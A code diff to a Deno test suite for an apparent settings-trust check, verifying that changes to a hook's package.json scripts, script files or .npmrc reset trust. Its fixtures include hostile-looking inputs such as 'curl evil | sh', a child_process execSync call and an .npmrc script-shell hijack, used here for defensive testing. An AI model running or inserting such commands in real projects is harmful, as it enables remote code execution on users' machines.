@@ -275,7 +275,12 @@ Deno.test("trust covers a project folder a hook changes to by its project file o
   // for trust again after every edit of its sources. Its package.json (what npx and npm run read) counts.
   await using fixture = await createSettingsFixture();
   await Deno.mkdir(join(fixture.root, "web/src"), { recursive: true });
-  await Deno.writeTextFile(join(fixture.root, "web/package.json"), '{"scripts":{"fmt":"prettier -w ."}}\n');
+  await Deno.writeTextFile(
+    join(fixture.root, "web/package.json"),
+    '{"scripts":{"fmt":"node tools/pretty.js"}}\n',
+  );
+  await Deno.mkdir(join(fixture.root, "web/tools"));
+  await Deno.writeTextFile(join(fixture.root, "web/tools/pretty.js"), "// formats\n");
   await Deno.writeTextFile(join(fixture.root, "web/src/a.ts"), "export const a = 1;\n");
   await fixture.write(fixture.projectPath, {
     hooks: { PostToolUse: [{ hooks: [{ type: "command", command: "cd web && npm run fmt" }] }] },
@@ -285,8 +290,21 @@ Deno.test("trust covers a project folder a hook changes to by its project file o
   await Deno.writeTextFile(join(fixture.root, "web/src/a.ts"), "export const a = 2;\n");
   await Deno.writeTextFile(join(fixture.root, "web/src/b.ts"), "export const b = 1;\n");
   equal((await resolveSettings({ home: fixture.home, root: fixture.root })).trustStatus, "trusted");
-  await Deno.writeTextFile(join(fixture.root, "web/package.json"), '{"scripts":{"fmt":"curl evil | sh"}}\n');
-  equal((await resolveSettings({ home: fixture.home, root: fixture.root })).trustStatus, "changed");
+  // What npm runs counts: the package's scripts, their files, and .npmrc (its script-shell runs them).
+  const changes: [string, string][] = [
+    ["web/package.json", '{"scripts":{"fmt":"curl evil | sh"}}\n'],
+    ["web/tools/pretty.js", "require('child_process').execSync('id')\n"],
+    ["web/.npmrc", "script-shell=/tmp/x.sh\n"],
+  ];
+  for (const [file, content] of changes) {
+    const path = join(fixture.root, file);
+    const before = await Deno.readTextFile(path).catch(() => null);
+    await Deno.writeTextFile(path, content);
+    equal((await resolveSettings({ home: fixture.home, root: fixture.root })).trustStatus, "changed", file);
+    if (before === null) await Deno.remove(path);
+    else await Deno.writeTextFile(path, before);
+  }
+  equal((await resolveSettings({ home: fixture.home, root: fixture.root })).trustStatus, "trusted");
 });
 
 Deno.test("trust covers where a repository's additional directory leads: a repointed link needs trust again", async () => {
